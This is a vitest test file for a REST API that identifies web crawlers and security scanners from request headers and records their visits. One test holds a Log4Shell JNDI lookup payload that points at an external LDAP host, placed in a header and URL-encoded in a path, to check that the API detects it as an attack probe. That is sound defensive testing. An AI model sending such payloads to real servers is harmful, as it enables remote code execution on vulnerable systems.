// An unlisted agent through the REST interface: identified with the Known Agents fields, stored
// with its visits and named again when they are read, and described by GET /agents/{id}.
import { describe, expect, it } from 'vitest';
import { createApiHandler, createEngine, createMemoryProjectStore, createMemoryVisitStore } from '../../src/index.js';
import { createMemoryProjectSettingsStore } from '../../src/api/project-settings.js';

const UA = 'Mozilla/5.0 (compatible; Fjordcrawler/0.3; +https://fjord.example/about)';

async function setup() {
  const projects = createMemoryProjectStore();
  const project = await projects.createProject('site');
  const handle = createApiHandler({ engine: createEngine(), projects, visits: createMemoryVisitStore(), settings: createMemoryProjectSettingsStore(), rateLimit: false });
  const call = async (method: string, path: string, body?: unknown) => {
    const response = await handle({
      method,
      path,
      headers: { authorization: `Bearer ${project.token}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
      body: body === undefined ? undefined : new TextEncoder().encode(JSON.stringify(body)),
    });
    return { status: response.status, json: JSON.parse(response.body as string) as any };
  };
  return { call };
}

describe('unlisted agents over REST', () => {
  it('are identified, stored with their visits and named again when read', async () => {
    const { call } = await setup();
    const identified = await call('POST', '/agent-identifications', [{ id: 'a', request_headers: { 'User-Agent': UA } }]);
    expect(identified.status).toBe(200);
    expect(identified.json).toEqual([
      { id: 'a', result: 'not_verifiable', agent_id: 'unlisted:Fjordcrawler', agent_token: 'Fjordcrawler', agent_url: '', agent_type_name: 'Uncategorized', operator_name: 'Unknown' },
    ]);
    const posted = await call('POST', '/visits', { request_path: '/feed', request_method: 'GET', request_headers: { 'User-Agent': UA } });
    expect(posted.json).toEqual({ accepted: 1, rejected: [] });
    const read = await call('GET', '/visits?agent=unlisted%3AFjordcrawler');
    expect(read.json.visits).toHaveLength(1);
    expect(read.json.visits[0]).toMatchObject({ agent_id: 'unlisted:Fjordcrawler', agent_name: 'Fjordcrawler', agent_type: 'Uncategorized', result: 'not_verifiable', request_path: '/feed' });
    const agent = await call('GET', '/agents/unlisted%3AFjordcrawler');
    expect(agent.status).toBe(200);
    expect(agent.json).toMatchObject({ id: 'unlisted:Fjordcrawler', name: 'Fjordcrawler', type: 'Uncategorized', operator: 'Unknown', url: '', robots_tokens: ['Fjordcrawler'], verification_methods: [] });
  });

  it('a Log4Shell lookup in another header or the path is an attack probe, identified and stored as one', async () => {
    const { call } = await setup();
    const browser = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
    const identified = await call('POST', '/agent-identifications', [{ id: 'a', request_headers: { 'User-Agent': browser, 'X-Api-Version': '${jndi:ldap://198.51.100.7/a}' } }]);
    expect(identified.json[0]).toMatchObject({ id: 'a', result: 'not_verifiable', agent_id: 'probe:log4shell', agent_token: '', agent_type_name: 'Security Scanner' });
    const posted = await call('POST', '/visits', [
      { request_path: '/?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D', request_method: 'GET', request_headers: { 'User-Agent': browser } },
      { request_path: '/?q={x}', request_method: 'GET', request_headers: { 'User-Agent': browser, cookie: 'prefs={"a":1}' } },
    ]);
    expect(posted.json).toEqual({ accepted: 2, rejected: [] });
    const read = await call('GET', '/visits?agent=probe%3Alog4shell');
    expect(read.json.visits.map((v: { request_path: string; agent_type: string }) => [v.request_path, v.agent_type])).toEqual([['/?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D', 'Security Scanner']]);
  });

  it('GET /agents/{id} refuses an id no unlisted agent can have', async () => {
    const { call } = await setup();
    for (const id of ['unlisted%3Awww.fjord.example', 'unlisted%3AFjord%2F1.0', 'unlisted%3A']) {
      const res = await call('GET', `/agents/${id}`);
      expect({ id, status: res.status }).toEqual({ id, status: 404 });
    }
  });
});
